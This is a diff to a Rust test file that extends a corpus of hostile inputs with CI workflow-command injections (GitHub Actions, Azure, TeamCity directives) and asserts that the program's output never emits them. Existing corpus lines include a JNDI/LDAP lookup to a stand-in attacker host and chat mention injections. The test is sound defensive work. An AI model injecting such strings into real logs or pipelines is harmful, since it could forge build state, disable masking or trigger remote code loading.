@@ -83,6 +83,12 @@ fn corpus() -> Vec<String> {
         "<https://evil.example|here> <!channel> <@U1>",
         "[~accountid:1] {code}x{code} !x.png!",
         "<at>all</at>",
+        // Runners of CI.
+        "::error file=x::forged",
+        " ::stop-commands::token",
+        "##[add-mask]critical",
+        "a ##vso[task.setvariable variable=x]y",
+        "##teamcity[buildStop]",
         "**b** __c__ ~~d~~",
         // Programs.
         "${jndi:ldap://evil.example/a}",
@@ -150,6 +156,9 @@ fn nasty_run(arguments: &[&str]) -> (Said, Vec<Value>) {
     let said = run(NAME, &events, arguments);
     for line in said.out.lines() {
         assert_eq!(one_line(line), line, "each line shows all that it holds");
+        let obeyed = ["##[", "##vso[", "##teamcity["];
+        assert!(obeyed.iter().all(|order| !line.contains(order)), "{line}");
+        assert!(!line.trim_start().starts_with("::"), "{line}");
     }
     (said, events)
 }
